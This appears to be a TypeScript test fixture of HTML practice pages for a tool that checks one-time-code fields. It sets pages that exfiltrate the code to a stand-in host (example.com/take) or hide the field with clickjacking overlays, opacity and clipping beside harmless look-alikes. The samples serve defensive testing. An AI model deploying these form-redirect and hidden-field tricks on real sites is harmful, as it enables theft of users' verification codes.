/**
 * Pages that ask for a code at an address where that is right, and would have it go to another place, or hide where it
 * goes. Each differs from `plain` in one thing. Beside them are pages that look alike and do no harm. The field is the
 * account's own by its known id (page facts, row 5); all else is made up.
 */
const field =
  '<input id="two-step-verification-otp-code-input" name="code" autocomplete="one-time-code" inputmode="numeric">';
const words = '<h1>Two-step verification</h1><p>Enter the code from your authenticator app.</p>';

type Parts = {
  readonly head?: string;
  readonly form?: string;
  readonly around?: readonly [before: string, after: string];
  readonly field?: string;
  readonly button?: string;
  readonly after?: string;
  readonly script?: string;
};
const page = ({
  head = '',
  form = '<form method="post">',
  around: [before, behind] = ['', ''],
  field: own = field,
  button = '<button>Verify</button>',
  after = '',
  script = '',
}: Parts): string => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Practice</title>${head}</head>
<body>${words}${form}${before}${own}${behind}${button}</form>${after}
<script>addEventListener('submit', (event) => event.preventDefault());${script}</script></body></html>`;

const cover = 'position: fixed; inset: 0; background: white; z-index: 9';
const elsewhere = 'https://example.com/take';

export const plain = page({});

/** Forms that would send the code away, by one way or another. */
export const sendsAway = {
  'a form that sends it to another site': page({ form: `<form method="post" action="${elsewhere}">` }),
  'a form that sends it to another port': page({ form: '<form action="https://id.atlassian.com:8443/login">' }),
  'a form that sends it in the open': page({ form: '<form action="http://id.atlassian.com/login">' }),
  'a form that runs a script with it': page({ form: '<form action="javascript:void 0">' }),
  'a form that goes on to a made-up document': page({ form: '<form action="data:text/html,hello">' }),
  'a button that sends it to another site': page({ button: `<button formaction="${elsewhere}">Verify</button>` }),
  'a picture that sends it to another site': page({
    button: `<button>Verify</button><input type="image" alt="Go" formaction="${elsewhere}">`,
  }),
  'a button far from the form': page({
    form: '<form id="far" method="post">',
    after: `<button form="far" formaction="${elsewhere}">Continue</button>`,
  }),
  'a base that leads relative addresses away': page({
    head: '<base href="https://example.com/">',
    form: '<form action="take">',
  }),
  'a base that leads a button away': page({
    head: '<base href="https://example.com/">',
    button: '<button formaction="take">Verify</button>',
  }),
  'a form that opens another window': page({ form: '<form method="post" target="_blank">' }),
  'a base that opens another window': page({ head: '<base target="other">' }),
  'a button that opens another window': page({ button: '<button formtarget="other">Verify</button>' }),
  'a form whose field answers for its address': page({
    form: `<form method="post" action="${elsewhere}"><input type="hidden" name="action" value="/login"><input type="hidden" name="getAttribute">`,
  }),
  'a field of a form that is somewhere else': page({
    form: '<form method="post">',
    field: field.replace('<input', '<input form="far"'),
    after: `<form id="far" action="${elsewhere}"></form>`,
  }),
} as const;

/** Fields that can't be seen, or not well enough. */
export const unseen = {
  'a field cut away by its own shape': page({ around: ['<div style="clip-path: inset(50%)">', '</div>'] }),
  'a field cut to a few points': page({
    around: ['<div style="clip-path: polygon(0 0, 100% 100%, 0 100%)">', '</div>'],
  }),
  'a field that is almost see-through': page({ around: ['<div style="opacity: .01">', '</div>'] }),
  'a field in layers that are half see-through': page({
    around: ['<div style="opacity: .5"><div style="opacity: .5"><div style="opacity: .5">', '</div></div></div>'],
  }),
  'a masked field': page({
    around: ['<div style="mask-image: linear-gradient(transparent, transparent)">', '</div>'],
  }),
  'a field filtered away': page({ around: ['<div style="filter: opacity(1%)">', '</div>'] }),
  'a blurred field': page({ around: ['<div style="filter: blur(30px)">', '</div>'] }),
  'a field blended away': page({ around: ['<div style="mix-blend-mode: lighten">', '</div>'] }),
  'a field as small as a crumb': page({ around: ['<div style="transform: scale(.05)">', '</div>'] }),
  'a field under a cover that lets the pointer through': page({
    after: `<div style="${cover}; pointer-events: none">Hello</div>`,
  }),
  'a field under a cover that says so again and again': page({
    head: '<style>div { pointer-events: none !important; }</style>',
    after: `<div style="${cover}; pointer-events: none !important">Hello</div>`,
  }),
  'a field under a cover that is on its way to meet the pointer': page({
    head: '<style>#cover { pointer-events: auto; transition: pointer-events 9999s allow-discrete; @starting-style { pointer-events: none; } }</style>',
    after: `<div id="cover" style="${cover}">Hello</div>`,
  }),
  'a field under a cover that is inert': page({ after: `<div inert style="${cover}">Hello</div>` }),
  'a field under a cover in a shadow root': page({
    after: '<div id="host"></div>',
    script: `document.getElementById('host').attachShadow({ mode: 'closed' }).innerHTML = '<div style="${cover}; pointer-events: none">Hello</div>';`,
  }),
  'a field under an inert cover in a shadow root': page({
    after: '<div id="host"></div>',
    script: `document.getElementById('host').attachShadow({ mode: 'closed' }).innerHTML = '<div inert style="${cover}">Hello</div>';`,
  }),
  'a field under what an element around it draws': page({
    head: '<style>.wrap { position: relative; } .wrap::after { content: ""; position: absolute; inset: 0; background: white; pointer-events: none; }</style>',
    around: ['<div class="wrap">', '</div>'],
  }),
  'a field behind the element around it': page({
    around: ['<div style="background: white"><div style="position: relative; z-index: -1">', '</div></div>'],
  }),
  'a field under a label like a board': page({
    around: [
      '<div style="position: relative">',
      '<label for="two-step-verification-otp-code-input" style="position: absolute; inset: 0; background: white">Hello</label></div>',
    ],
  }),
  'a field under a picture': page({
    after: `<svg style="position: fixed; inset: 0; width: 100%; height: 100%; pointer-events: none"><rect width="100%" height="100%" fill="white"/></svg>`,
  }),
  'a field under a frame': page({
    after: `<iframe srcdoc="Hello" style="${cover}; width: 100%; height: 100%; pointer-events: none"></iframe>`,
  }),
  'a field in a dialog under a popover': page({
    form: '<dialog><form method="post">',
    button: '<button>Verify</button></dialog>',
    after: `<div id="over" popover="manual" style="${cover}; width: 100%; height: 100%">Hello</div>`,
    script: 'document.querySelector("dialog").showModal(); document.getElementById("over").showPopover();',
  }),
} as const;

/** What looks like one of those and does no harm. */
export const harmless = {
  'a form that posts to itself': page({ form: '<form method="post" action="">' }),
  'a form that posts to its own site': page({
    form: '<form method="post" action="/rest/two-step-verification/verify">',
  }),
  'a form with a field named "action"': page({
    form: '<form method="post"><input type="hidden" name="action" value="verify">',
  }),
  'a base of its own site': page({ head: '<base href="/login/">', form: '<form action="verify">' }),
  'a form of a dialog': page({
    form: '<dialog><form method="dialog">',
    button: '<button>Verify</button></dialog>',
    script: 'document.querySelector("dialog").showModal();',
  }),
  'a field under its own label': page({
    around: [
      '<div style="position: relative">',
      '<label for="two-step-verification-otp-code-input" style="position: absolute; inset: 0; pointer-events: none"><span>6-digit code</span></label></div>',
    ],
  }),
  'a field in a frame that is drawn over it': page({
    head: '<style>.wrap { position: relative; display: inline-block; } .wrap::after, .line { content: ""; position: absolute; inset: 0; border: 2px solid blue; border-radius: 8px; pointer-events: none; }</style>',
    around: ['<div class="wrap">', '<fieldset class="line" aria-hidden="true"></fieldset></div>'],
  }),
  'a field with a button in its end': page({
    around: [
      '<div style="position: relative; width: 20rem">',
      '<button type="button" style="position: absolute; right: 4px; top: 2px; width: 1.5rem; height: 1rem; background: gray">×</button></div>',
    ],
    field: field.replace('<input', '<input style="width: 100%"'),
  }),
  'a page that is turned dark': page({ head: '<style>html { filter: invert(1) hue-rotate(180deg); }</style>' }),
  'a field below the window': page({ around: ['<div style="height: 3000px"></div>', ''] }),
  'a field under a bar at the bottom of the window': page({
    around: ['<div style="height: calc(100vh - 9rem)"></div>', '<div style="height: 2000px"></div>'],
    after: '<div style="position: fixed; bottom: 0; height: 6rem; width: 100%; background: white">Cookies</div>',
  }),
  'a dialog above a page that is put to sleep': page({
    form: '<div role="dialog" aria-modal="true" style="position: fixed; inset: 4rem; background: white"><form method="post">',
    button: '<button>Verify</button></div>',
    after: '<main inert><h2>Widgets</h2><p style="height: 60rem">A page below.</p></main>',
  }),
} as const;

/** Pages that are fine when the popup opens; `trick()` makes the difference before the click. Then the name of the reason. */
export const turned = {
  'a cover that lets the pointer through': [
    page({
      script: `function trick() { document.body.insertAdjacentHTML('beforeend', '<div style="${cover}; pointer-events: none">Hello</div>'); }`,
    }),
    'covered',
  ],
  'a button that comes late': [
    page({
      script: `function trick() { document.forms[0].insertAdjacentHTML('beforeend', '<button formaction="${elsewhere}">Verify</button>'); }`,
    }),
    'sends-away',
  ],
  'a field that gets too short': [
    page({ script: 'function trick() { document.querySelector("input").maxLength = 4; }' }),
    'other-length',
  ],
} as const;
